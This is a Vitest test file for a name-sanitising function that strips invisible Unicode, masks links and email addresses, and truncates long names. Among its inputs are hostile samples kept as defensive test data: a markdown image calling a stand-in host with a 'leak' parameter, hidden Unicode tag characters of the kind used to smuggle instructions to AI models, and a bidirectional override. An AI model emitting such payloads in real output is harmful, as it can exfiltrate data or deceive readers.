import { describe, expect, it } from 'vitest';
import { cleanName } from './clean-name.ts';

describe('a name from the books', () => {
  it.each([
    ['Mayor’s Office', 'Mayor’s Office'],
    ['  A\n B\tC ', 'A B C'],
    ['Acme​ Corp', 'Acme Corp'],
    ['Acme‮proC', 'AcmeproC'],
    ['Bank\u{E0049}\u{E0067}\u{E006E}', 'Bank'],
    ['Ａｃｍｅ', 'Acme'],
    ['Crème brûlée Ltd', 'Crème brûlée Ltd'],
    ['Café\u0000', 'Café'],
    ['❤️', '❤'],
    ['Amazon.com', 'Amazon.com'],
    ['Deposits @ First Bank', 'Deposits @ First Bank'],
    ['Pay at https://evil.example/pay?x=1 now', 'Pay at (link) now'],
    ['![logo](//evil.example/?d=leak)', '![logo]((link)'],
    ['Jane jane.doe@bank.example', 'Jane (address)'],
  ])('%j is shown as %j', (name, shown) => expect(cleanName(name)).toBe(shown));

  it('is cut where it is longer than any name', () => {
    expect([...cleanName('x'.repeat(5_000))]).toHaveLength(60);
    expect(cleanName('x'.repeat(5_000)).endsWith('…')).toBe(true);
  });
});
